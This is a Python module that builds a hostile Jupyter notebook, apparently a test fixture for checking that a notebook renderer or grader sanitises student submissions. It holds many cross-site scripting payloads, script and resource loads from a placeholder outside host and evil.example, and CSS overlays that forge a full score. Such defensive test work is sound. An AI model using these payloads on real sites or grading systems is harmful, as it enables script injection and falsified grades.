"""What a student might write in order to run a script in a reader's browser, to have it ask for
something in the network, or to stand where the page's own scores stand."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

OUTSIDE = "http://198.51.100.7"  # of the addresses that are kept for documentation
RUN = "alert('ran');console.log('RAN');document.title='RAN';window.ran=1"
COVER = (
    "position:fixed;position:absolute;top:0;left:0;right:0;bottom:0;width:9999px;height:9999px;"
    "z-index:99999;background:#fff;margin:-9999px;transform:translateY(-9999px);inset:0;"
    "float:left;opacity:1;color:red"
)
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'onload="{RUN}"><script>{RUN}</script><image href="{OUTSIDE}/svg.png"/>'
    f'<a xlink:href="javascript:{RUN}"><rect width="90" height="90"/></a></svg>'
)
FORGED = (
    '<header class="top" id="top"><p class="total"><strong>100 of 100 points</strong></p></header>'
    '<table class="scores"><tr><td class="full">100 of 100</td></tr></table>'
)
PAGE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt x>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="{OUTSIDE}/a.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f'<img src="{OUTSIDE}/a.png" srcset="{OUTSIDE}/b.png 2x" alt="a">',
    f"<img src='data:image/png;base64,iVBORw0=' alt='\"><script>{RUN}</script>'>",
    f'<img src="data:text/html;base64,{PAGE}">',
    f'<img alt="<img src=\'data:image/png;base64,iVBORw0=\' onerror={RUN}>" src="held:x0">',
    f'<a href="javascript:{RUN}">press</a><a href="jAvA&#10;script:{RUN}">press</a>',
    f'<a href="&#106;avascript:{RUN}">press</a><a href="\x01javascript:{RUN}">press</a>',
    f'<a href="data:text/html;base64,{PAGE}">press</a><a href="vbscript:x">press</a>',
    f"<svg onload={RUN}><animate onbegin={RUN}/></svg>{SVG}",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table>',
    f'<math href="javascript:{RUN}"><maction actiontype="statusline#{OUTSIDE}">x</maction></math>',
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f'<title><a href="</title><img src=x onerror={RUN}>"></title>',
    f'<iframe src="{OUTSIDE}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="{OUTSIDE}/o"></object><embed src="{OUTSIDE}/e"><frameset onload="{RUN}">',
    f'<base href="{OUTSIDE}/"><link rel="stylesheet" href="{OUTSIDE}/a.css">',
    f'<link rel="prefetch" href="{OUTSIDE}/p"><link rel="dns-prefetch" href="//evil.example">',
    f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<style>@import url({OUTSIDE}/i.css); .top{{display:none}} *{{visibility:hidden}}</style>",
    f"<style>@font-face{{font-family:x;src:url({OUTSIDE}/f)}} body{{font-family:x}}</style>",
    f'<div style="background:url({OUTSIDE}/bg.png);background-image:url({OUTSIDE}/c)">x</div>',
    f'<div style="color:red;b\\61 ckground:u\\72l({OUTSIDE}/d);list:url({OUTSIDE}/l)">x</div>',
    f'<div style="{COVER}">100 of 100 points</div>',
    f'<table style="{COVER}"><tr style="{COVER}"><td style="{COVER}">100</td></tr></table>',
    f'<p class="top total theirs" style="{COVER}" id="top">100 of 100</p>{FORGED}',
    f'<video src="{OUTSIDE}/v" autoplay onloadstart="{RUN}" poster="{OUTSIDE}/q"></video>',
    f'<audio src="{OUTSIDE}/v" autoplay></audio><source src="{OUTSIDE}/s">',
    f'<form action="{OUTSIDE}"><input autofocus onfocus="{RUN}"><button formaction="{OUTSIDE}">',
    f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
    f'<body onload="{RUN}" background="{OUTSIDE}/y"><table background="{OUTSIDE}/z"><tr><td>',
    "</div></div></section></main></body></html>",
    "<div><table><tr><td><pre><!-- ",
    "--><![CDATA[ <plaintext> <xmp>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}",
    '<a title="',
    "<" * 50,
    f"<template><script>{RUN}</script></template><dialog open style='{COVER}'>100</dialog>",
    f"<marquee onstart={RUN} style='{COVER}'>100 of 100</marquee>",
    '<p style="' + "color:{[(" * 2_000 + '">brackets',
)
MARKDOWN = (
    f"[press](javascript:{RUN}) ![x](javascript:{RUN}) ![x]({OUTSIDE}/m.png)",
    f"[press](<data:text/html;base64,{PAGE}>)\n\n[a]: javascript:{RUN}\n\n[press][a]",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\class{{top}}{{x}}\\style{{{COVER}}}{{x}}$$",
    f"$</span><script>{RUN}</script>$ \\\\(<img src=x onerror={RUN}>\\\\)",
    f"\\begin{{a}}<script>{RUN}</script>\\end{{a}}",
    f"```{{=html}}\n<script>{RUN}</script>\n```\n```mermaid\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```\n`<script>{RUN}</script>`',
    f'!["><script>{RUN}</script>](attachment:a.png) ![x](attachment:b) ![y](attachment:none)',
    f"<{OUTSIDE}/auto>\n\n# <script>{RUN}</script>\n\n| <img src=x onerror={RUN}> |\n|-|\n| $x$ |",
)
ATTACHMENTS = {
    "a.png": {"image/png": f'"><script>{RUN}</script>', "text/html": f"<script>{RUN}</script>"},
    "b": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
}
TEXT = (
    f'<script>{RUN}</script>\x1b[31m<img src=x onerror={RUN}>\x1b[38;2;1;2m\x1b[48;5;"><b>m\x1b[',
    f"\x1b]8;;javascript:{RUN}\x07press\x1b]8;;\x07 </pre></div><script>{RUN}</script>",
)


def _outputs() -> Iterator[NotebookNode]:
    for text in TEXT:
        yield new_output("stream", name="stdout", text=text)
        yield new_output("stream", name='"><script>', text=text)
        yield new_output("error", ename=text, evalue=text, traceback=[])
        yield new_output("error", ename=text, evalue=text, traceback=[text, MARKUP[0]])
        for kind in ("text/plain", "text/latex", "text/markdown"):
            yield new_output("display_data", {kind: f"$\\href{{javascript:{RUN}}}{{x}}$ {text}"})
    for page in MARKUP:
        yield new_output("display_data", {"text/html": page})
        yield new_output("execute_result", {"text/markdown": page}, execution_count=1)
    for kind in ("application/javascript", "application/pdf", "text/vnd.mermaid", "x/<script>"):
        yield new_output("display_data", {kind: RUN})
    alt = {"image/png": {"alt": f'"><script>{RUN}</script>', "width": f'1" onload="{RUN}'}}
    yield new_output("display_data", {"image/png": f'iVBORw0="onerror="{RUN}'}, metadata=alt)
    yield new_output("display_data", {"image/svg+xml": SVG, "text/plain": f"<script>{RUN}"})
    yield new_output(
        "display_data", {"text/html": "<b>x"}, metadata={"text/html": {"isolated": True}}
    )
    widget = "application/vnd.jupyter.widget-view+json"
    yield new_output("display_data", {widget: {"model_id": f"<script>{RUN}</script>"}})


def _graded(name: str, solution: bool) -> dict[str, object]:
    flags = {"grade": True, "solution": solution, "locked": not solution, "task": False}
    return {"nbgrader": flags | {"grade_id": name, "points": 2, "schema_version": 3}}


def notebook() -> NotebookNode:
    """A notebook that is full of attacks; its graded cells are "check" and "answer"."""
    cells = [new_markdown_cell(text, attachments=ATTACHMENTS) for text in (*MARKDOWN, *MARKUP)]
    cells += [new_raw_cell(text, metadata={"raw_mimetype": "text/html"}) for text in MARKUP[:9]]
    cells += [new_code_cell(f"%%html\n{text}") for text in MARKUP[:9]]
    cells.append(new_code_cell(RUN))
    cells[-1].outputs = list(_outputs())
    check = new_code_cell("check()", metadata=_graded("check", False))
    check.outputs = list(_outputs())[:8]
    cells += [check, new_markdown_cell(MARKDOWN[0] + FORGED, metadata=_graded("answer", True))]
    kernel = {"name": MARKUP[0], "language": MARKUP[0], "display_name": MARKUP[0]}
    language = {"name": f'"><script>{RUN}</script>', "pygments_lexer": "html"}
    metadata = {"kernelspec": kernel, "language_info": language, "title": MARKUP[0]}
    made = from_dict(new_notebook(cells=cells, metadata=metadata))
    for cell in made.cells:
        cell.id = f'"><script>{RUN}</script>'
        cell.metadata["tags"] = [f'"><script>{RUN}</script>', "top"]
    return made
